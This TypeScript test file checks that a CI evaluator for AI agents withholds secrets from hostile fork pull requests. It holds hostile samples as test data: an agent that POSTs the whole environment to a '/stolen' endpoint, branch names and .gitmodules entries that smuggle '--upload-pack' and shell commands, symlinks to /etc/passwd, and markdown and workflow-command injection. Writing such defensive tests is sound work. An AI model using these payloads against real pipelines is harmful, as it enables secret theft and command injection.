/** A fork's pull request in a run that has secrets: its agent, what the base says, and nothing of the base's that leaves. */
import { mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest';
import { zipOf } from '../../platform/github/zip.ts';
import { type AgentServer, startAgentServer } from '../../support/agent-server.ts';
import { begin, commit, git, worktreesOf } from '../../support/git-repository.ts';
import {
  addCommit,
  addRepository,
  commitTo,
  type PullRequest,
  type Repository,
  setLabel,
} from '../../support/github-server.ts';
import type { Job } from '../../support/local-github.ts';
import { type ModelServer, startModelServer } from '../../support/model-server.ts';
import { temporaryFolder } from '../../support/temporary-folders.ts';
import { checkOut, openStage, RETURNS, type Run, SECRET, SECRET_FORMS, type Stage } from './stage.ts';

let stage: Stage;
let judge: ModelServer;
/** What a hostile agent and its configuration name: it counts who asks it, and what for. */
let listener: AgentServer;
let fork: Repository;
let folder: string;
let base: string;

/** @param says Statements of the program that answer `id`. */
const agentOf = (says: string, atStart = ''): string => `import { createServer } from 'node:http';
${atStart}
createServer(async (request, response) => {
  let body = '';
  for await (const chunk of request) body += chunk;
  const id = /about (\\S+)\\?/.exec(body)?.[1];
  response.end(JSON.stringify({ reply: ${says} }));
}).listen(Number(process.env.PORT), '127.0.0.1');
`;
const WORSE = agentOf(
  `/${RETURNS[0]!.replace(/\d+$/, '')}/.test(id) ? 'No idea.' : 'Here is the advice on ' + id + '.'`,
);
const suite = {
  name: 'two-stages',
  agent: `
  type: http
  url: http://127.0.0.1:{{ port }}/chat
  request: { message: "{{ input }}" }
  response: { text: reply }
  start: { command: node agent.mjs, ready: "http://127.0.0.1:{{ port }}/", timeout: 2m, env: { PORT: "{{ port }}" } }`,
  more: `llm: { judge: { model: m, base_url: "\${JUDGE_URL}", api_key: "\${AGENT_KEY}" } }
criteria: { friendly: The reply is friendly. }
security: { allowed_hosts: [127.0.0.1] }`,
  cases: '- { id: kind, input: "What do you say about kind?", evaluate: { satisfy: [friendly] } }\n',
  extraFiles: { 'agent.mjs': agentOf("'Here is the advice on ' + id + '.'") },
};

beforeAll(async () => {
  [stage, listener, judge] = await Promise.all([
    openStage(),
    startAgentServer({ body: { reply: 'Thank you.' } }),
    startModelServer(() => ({ json: { reason: 'It is.', evidence: [], passed: true } })),
  ]);
  const { state, repository } = stage.github.server;
  fork = addRepository(state, { fullName: 'mallory/shop-assistant', parent: repository });
  folder = checkOut(suite);
  base = begin(folder);
  commitTo(state, repository, { branch: 'main', sha: base });
});
afterAll(() => Promise.all([stage?.stop(), listener?.close(), judge?.close()]));
afterEach(() => expect(stage.github.server.violations).toEqual([]));

type Opened = ReturnType<typeof opened>['run'];
/** The first stage's run of a fork's branch with these files, and the pull request. */
function opened(branch: string, files: Readonly<Record<string, string>>, change: (folder: string) => void = () => {}) {
  git(folder, 'checkout', '-q', '-B', 'theirs', base);
  change(folder);
  const sha = commit(folder, files);
  git(folder, 'checkout', '-q', '--detach', base);
  addCommit(stage.github.server.state, { sha, parents: [base], message: 'Change the agent' });
  fork.refs.set(`heads/${branch}`, sha);
  const pull = stage.openPull({ branch, fork });
  return { pull, run: stage.github.newRun({ event: 'pull_request', pull }).run };
}

async function secondStage(of: Opened, more: Readonly<Record<string, string>> = {}): Promise<Run> {
  return inSecondStage(stage.github.newRun({ event: 'workflow_run', of }), more);
}
async function inSecondStage(job: Job, more: Readonly<Record<string, string>>, workspace = folder): Promise<Run> {
  const event = { ...job.event, env: { ...job.event.env, GITHUB_SHA: base } };
  const env = { JUDGE_URL: judge.url, DEPLOY_TOKEN: SECRET };
  const inputs = { check: 'true', comment: 'always', mode: 'full', ...more };
  const run = await stage.run({ ...job, event }, suite, { workspace, env, inputs });
  expect(worktreesOf(workspace)).toEqual([]);
  return run;
}
const checksOf = ({ head }: PullRequest) =>
  stage.github.server.repository.checks.filter(({ given }) => given.head_sha === head.sha).map(({ given }) => given);
const bodies = (pull: PullRequest) => stage.comments(pull).map(({ body }) => body);

it("a good pull request: its own agent, judged with the key, comment and check at the pull request's head", async () => {
  const { pull, run } = opened('kinder', { 'agent.mjs': agentOf("'Gladly: here is the advice on ' + id + '!'") });
  const { exitCode, outputs, outcome } = await secondStage(run);
  expect([exitCode, outputs.conclusion]).toEqual([0, 'not-compared']);
  expect(outcome.report.cases.map(({ status }) => status)).not.toContain('failed');
  const [kind] = outcome.report.cases.filter(({ id }) => id === 'kind');
  expect(JSON.stringify(kind?.trials[0]?.transcript)).toContain('Gladly: here is');
  expect(outcome.run).toMatchObject({ sha: pull.head.sha, pullRequest: pull.number, branch: null });
  expect(judge.requests.at(-1)?.headers.authorization).toBe(`Bearer ${SECRET}`);
  expect(bodies(pull)).toHaveLength(1);
  expect(checksOf(pull)).toHaveLength(1);
});

it('a worse one is reported so, against the baseline of main', async () => {
  const job = stage.github.newRun({ event: 'push' });
  git(folder, 'checkout', '-q', '--detach', base);
  const main = await stage.run(
    { ...job, event: { ...job.event, env: { ...job.event.env, GITHUB_SHA: base } } },
    suite,
    {
      workspace: folder,
      env: { JUDGE_URL: judge.url },
    },
  );
  expect(main.exitCode).toBe(0);
  const { pull, run } = opened('terser', { 'agent.mjs': WORSE });
  const { exitCode, outputs, outcome } = await secondStage(run);
  expect([exitCode, outputs.conclusion, outputs['newly-failing']]).toEqual([1, 'regression', '20']);
  expect(outcome.comparison?.baseline.runId).toBe(String(main.job.run.id));
  // Both versions were asked again: the base's is the trusted commit's.
  expect(outcome.comparison?.confirmation?.mode).toBe('confirm');
  expect(outcome.run.extraCalls?.base).toBeGreaterThan(0);
  expect(bodies(pull)[0]).toContain('regression');
  expect(checksOf(pull)).toMatchObject([{ conclusion: 'failure' }]);

  const { state, repository } = stage.github.server;
  repository.roles.set('maria', 'write');
  setLabel(state, pull, 'agent-eval: accept', 'maria');
  const labelled = stage.github.newRun({
    event: 'pull_request',
    pull,
    action: 'labeled',
    label: 'agent-eval: accept',
    sender: 'maria',
  });
  const accepted = await secondStage(labelled.run);
  expect([accepted.exitCode, accepted.outputs.conclusion]).toEqual([0, 'regression']);
  expect(accepted.outcome.verdict.accepted).toEqual({ by: 'maria', sha: pull.head.sha });
  expect(bodies(pull)).toHaveLength(1);
  expect(bodies(pull)[0]).toContain('maria');
});

it('a second stage in shards: the job that merges comments, and asks both versions again', async () => {
  const { pull, run } = opened('sharded', { 'agent.mjs': WORSE });
  const job = stage.github.newRun({ event: 'workflow_run', of: run });
  const shards: Run[] = [];
  for (const part of [1, 2]) shards.push(await inSecondStage(job, { shard: `${part}/2`, out: `shards/${part}` }));
  expect(shards.map(({ exitCode }) => exitCode)).toEqual([0, 0]);
  expect(bodies(pull)).toEqual([]);
  const merged = await inSecondStage(job, { merge: 'shards/*/outcome.json' });
  expect([merged.exitCode, merged.outputs.conclusion, merged.outputs['newly-failing']]).toEqual([
    1,
    'regression',
    '20',
  ]);
  expect(merged.outcome.comparison?.confirmation?.mode).toBe('confirm');
  expect([bodies(pull).length, checksOf(pull).length]).toEqual([1, 1]);
  pull.state = 'closed';
  const late = await inSecondStage(job, { merge: 'shards/*/outcome.json' });
  expect([late.exitCode, late.outputs.conclusion, bodies(pull).length]).toEqual([0, 'not-compared', 1]);
});

it('a hostile one gets no key: neither by its configuration, nor its environment, nor its artifact, nor its branch', async () => {
  const config = readFileSync(join(folder, 'agent-eval.yml'), 'utf8').replace('${JUDGE_URL}', listener.url);
  const mention = '@octocat <!-- agent-eval --> [look](https://evil.example) ::error::gotcha';
  const atStart = `const all = JSON.stringify(process.env);
console.log(all);
await fetch('${listener.url}/stolen', { method: 'POST', body: all });`;
  const { pull, run } = opened('main', {
    'agent-eval.yml': config,
    'agent.mjs': agentOf(
      `'${mention} advice on ' + id + '. ' + process.env.AGENT_KEY + process.env.DEPLOY_TOKEN`,
      atStart,
    ),
    'evals/returns.yml': '- { id: easy, input: Hello, expect: { not_empty: true } }\n',
  });
  const changed = ['evals/returns.yml', 'agent.mjs', 'agent-eval.yml'];
  pull.files.splice(0, 1, ...changed.map((filename) => ({ filename, status: 'modified' as const })));
  const forged = JSON.stringify({ verdict: { conclusion: 'no-regression' }, pull_request: 1, pass_rate: 1 });
  stage.github.server.addArtifact({
    name: 'agent-eval-baseline-two-stages',
    runId: run.id,
    zip: zipOf({ 'outcome.json': forged, pr_number: '1' }),
  });
  const asked = judge.requests.length;
  const result = await secondStage(run);
  // It ran, with the cases of the base, and sent what it had.
  expect(result.outcome.report.cases).toHaveLength(41);
  expect(listener.asked.map(({ url }) => url)).toEqual(['/stolen']);
  expect(Object.keys(JSON.parse(listener.asked[0]!.body))).toContain('PORT');
  expect(judge.requests.length).toBe(asked + 1);
  expect(result.outcome.run.sha).toBe(pull.head.sha);
  const [comment, ...others] = bodies(pull);
  expect(others).toEqual([]);
  for (const shown of [comment, result.summary])
    expect(shown).toMatch(
      /those of main\. What this pull request changes in agent-eval.yml and evals.returns.yml takes/,
    );
  expect(comment).not.toMatch(/(?<![\w`])@octocat|\]\(https:\/\/evil\.example/);
  expect(result.commands.filter(({ message }) => /^gotcha/.test(message))).toEqual([]);
  expect(checksOf(pull)).toHaveLength(1);
  const everything = [
    ...[comment, result.log, result.summary, result.read('.agent-eval/outcome.json'), JSON.stringify(checksOf(pull))],
    ...listener.asked.map(({ body, headers }) => body + JSON.stringify(headers)),
  ].join('\n');
  for (const form of [...SECRET_FORMS, result.job.token, result.job.env.ACTIONS_RUNTIME_TOKEN])
    expect(everything).not.toContain(form);
});

it('one whose tree and branch are hostile gives nothing but its agent, which sends nobody elsewhere', async () => {
  const outside = temporaryFolder('outside-');
  const redirecting = `import { createServer } from 'node:http';
const codes = [301, 302, 303, 307, 308];
createServer((request, response) => {
  request.resume();
  if (request.method !== 'GET') response.writeHead(codes.push(codes.shift()) && codes[0], { location: '${listener.url}/moved' });
  response.end();
}).listen(Number(process.env.PORT), '127.0.0.1');
`;
  const touch = `touch ${join(outside, 'touched')}`;
  const attributes = '* filter=evil\n*.bin filter=lfs diff=lfs merge=lfs -text\nagent.mjs ident export-subst\n';
  const modules = `[submodule "x"]\n path = vendor\n url = --upload-pack=${touch}\n update = !${touch}\n`;
  const { pull, run } = opened(
    `--upload-pack=${touch.replaceAll(' ', '${IFS}')};$(${touch})&state=open#`,
    {
      'agent.mjs': redirecting,
      '.gitattributes': attributes,
      '.gitmodules': modules,
      '.lfsconfig': `[lfs]\n url = ${listener.url}\n`,
    },
    (tree) => {
      for (const name of ['agent-eval.yml', 'evals', 'package-lock.json', '.agent-eval'])
        rmSync(join(tree, name), { recursive: true, force: true });
      symlinkSync('/etc/passwd', join(tree, 'agent-eval.yml'));
      for (const name of ['evals', '.agent-eval']) symlinkSync(outside, join(tree, name));
      symlinkSync('/dev/zero', join(tree, 'package-lock.json'));
      mkdirSync(join(tree, 'vendor'));
      git(tree, 'update-index', '--add', '--cacheinfo', `160000,${base},vendor`);
    },
  );
  const before = [listener.asked.length, judge.requests.length];
  const { exitCode, outputs, outcome } = await secondStage(run);
  expect([exitCode, outputs.conclusion]).toEqual([3, 'could-not-run']);
  expect(outcome.report.cases.map(({ status }) => status)).not.toContain('passed');
  expect([listener.asked.length, judge.requests.length]).toEqual(before);
  expect(readdirSync(outside)).toEqual([]);
  expect([outcome.run.sha, bodies(pull).length]).toEqual([pull.head.sha, 1]);
});

it('nothing is published, and nobody asked, for a head that has moved on, or a pull request that is closed', async () => {
  const { pull, run } = opened('restless', { 'agent.mjs': agentOf("'later'") });
  const now = pull.head.sha;
  pull.head.sha = base;
  const moved = await secondStage(run);
  pull.head.sha = now;
  pull.state = 'closed';
  const closed = await secondStage(run);
  for (const result of [moved, closed])
    expect([result.exitCode, result.outputs.conclusion, result.outcome.report.cases]).toEqual([0, 'not-compared', []]);
  expect(moved.summary).toMatch(/has a newer head commit than [0-9a-f]{7}, which this run is of/);
  expect(closed.summary).toMatch(new RegExp(`Pull request #\\W?${pull.number} is closed`));
  expect([bodies(pull), checksOf(pull)]).toEqual([[], []]);
});
